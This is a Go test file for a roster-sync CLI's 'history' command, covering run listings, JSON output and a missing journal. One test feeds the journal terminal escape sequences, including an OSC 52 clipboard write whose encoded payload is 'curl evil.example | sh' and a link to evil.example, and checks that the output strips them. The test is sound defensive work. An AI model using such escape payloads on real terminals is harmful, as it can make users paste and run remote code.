package main

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"procsync/sync/roster"
	"procsync/sync/store"
)

// TestHistory lists runs and one run's actions as an admin reads them, from
// a real journal.
func TestHistory(t *testing.T) {
	dir := t.TempDir()
	ctx := context.Background()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, err := st.BeginRun(ctx, store.RunInfo{Mode: store.ModeAuto, ApprovedBy: "admin@contoso.com", Environment: "sandbox",
		CompanyID: 42, Fingerprint: "abc123", Counts: roster.Counts{roster.KindCreate: 2, roster.KindInSync: 7}})
	if err != nil {
		t.Fatal(err)
	}
	ids, err := st.RecordIntents(ctx, id, []roster.Record{
		{Kind: roster.KindCreate, Address: "ana@contoso.com", FirstName: "Ana", LastName: "Díaz", EntraID: "e-1"},
		{Kind: roster.KindCreate, Address: "bo@contoso.com", FirstName: "Bo", LastName: "O'Brien", EntraID: "e-2"},
		{Kind: roster.KindProjectAdd, Address: "ana@contoso.com", ProjectID: 7},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.RecordOutcomes(ctx, []roster.Record{
		{ID: ids[0], Status: roster.StatusDone, ProcoreID: 5512},
		{ID: ids[1], Status: roster.StatusFailed, Error: "422 email_address\nhas already been taken", RequestID: "req-9"},
		{ID: ids[2], Status: roster.StatusDone},
	}); err != nil {
		t.Fatal(err)
	}
	if err := st.FinishRun(ctx, id, store.RunFailed, nil); err != nil {
		t.Fatal(err)
	}
	st.Close()

	code, out, errOut := runCmd(t, "", false, "--state-dir", dir, "history")
	if code != 0 {
		t.Fatalf("history: exit %d: %s", code, errOut)
	}
	for _, want := range []string{"admin@contoso.com", "failed", "create 2, in_sync 7", "done 1, failed 1", "projects: done 1"} {
		if !strings.Contains(out, want) {
			t.Errorf("history lacks %q:\n%s", want, out)
		}
	}

	code, out, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", "1")
	if code != 0 {
		t.Fatalf("history --run: exit %d: %s", code, errOut)
	}
	for _, want := range []string{"ana@contoso.com", "5512", "422 email_address has already been taken (request req-9)", "Bo O'Brien"} {
		if !strings.Contains(out, want) {
			t.Errorf("history --run 1 lacks %q:\n%s", want, out)
		}
	}

	code, out, _ = runCmd(t, "", false, "--state-dir", dir, "history", "--json")
	var runs []map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &runs) != nil || len(runs) != 1 || runs[0]["outcome"] != "failed" {
		t.Errorf("history --json: exit %d, %s", code, out)
	}

	code, _, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", "99")
	if code != 1 || !strings.Contains(errOut, "no run 99") {
		t.Errorf("history --run 99: exit %d, %s", code, errOut)
	}
}

// TestHistoryWithoutJournal checks that reading the history of a state
// directory that has none says so and creates nothing.
func TestHistoryWithoutJournal(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "state")
	code, out, errOut := runCmd(t, "", false, "--state-dir", dir, "history")
	if code != 0 || !strings.Contains(out, "No runs yet in "+filepath.Join(dir, store.FileName)) || !strings.Contains(out, "procsync demo` are kept in a temporary directory") {
		t.Errorf("history: exit %d\nstdout: %s\nstderr: %s", code, out, errOut)
	}
	code, out, _ = runCmd(t, "", false, "--state-dir", dir, "history", "--json")
	if code != 0 || strings.TrimSpace(out) != "[]" {
		t.Errorf("history --json: exit %d, %q, want []", code, out)
	}
	code, _, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", "3")
	if code != 1 || !strings.Contains(errOut, "no run 3") {
		t.Errorf("history --run 3: exit %d, %s", code, errOut)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("history created the state directory %s (stat: %v)", dir, err)
	}
}

// TestHistoryNeverPrintsEscapes reads a journal written before text was
// sanitised on the way in (raw OSC 52 and OSC 8 sequences in a directory
// name, an approver and a server's error) and checks that no escape
// sequence or other control character reaches history's output, in any
// of its forms.
func TestHistoryNeverPrintsEscapes(t *testing.T) {
	const (
		osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
		osc8  = "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"
		c1    = "\u009d52;c;eA==\u009c"
	)
	dir := t.TempDir()
	ctx := context.Background()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, err := st.BeginRun(ctx, store.RunInfo{Mode: store.ModeAuto, ApprovedBy: "admin" + osc52 + "@contoso.com", Environment: "sandbox", CompanyID: 42})
	if err != nil {
		t.Fatal(err)
	}
	ids, err := st.RecordIntents(ctx, id, []roster.Record{
		{Kind: roster.KindCreate, Address: "ana@contoso.com", FirstName: "Ana" + osc52, LastName: "Díaz" + osc8, EntraID: "e-1" + c1},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.RecordOutcomes(ctx, []roster.Record{
		{ID: ids[0], Status: roster.StatusFailed, Error: "422 " + osc8 + " taken", RequestID: "req" + c1},
	}); err != nil {
		t.Fatal(err)
	}
	if err := st.FinishRun(ctx, id, store.RunFailed, errors.New("boom "+osc52)); err != nil {
		t.Fatal(err)
	}
	st.Close()

	for _, args := range [][]string{{"history"}, {"history", "--run", "1"}, {"history", "--json"}, {"history", "--json", "--run", "1"}} {
		code, out, errOut := runCmd(t, "", false, append([]string{"--state-dir", dir}, args...)...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errOut)
		}
		if i := strings.IndexFunc(out, func(r rune) bool {
			return r == 0x1b || r == 0x07 || (r >= 0x80 && r <= 0x9f)
		}); i >= 0 {
			t.Errorf("%v prints a control character at %d:\n%q", args, i, out)
		}
		if strings.Contains(out, "evil.example") || strings.Contains(out, "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==") {
			t.Errorf("%v prints the payload of an escape sequence:\n%s", args, out)
		}
		if args[len(args)-1] == "1" && !strings.Contains(out, "Ana") {
			t.Errorf("%v lost the text around the escapes:\n%s", args, out)
		}
	}
}
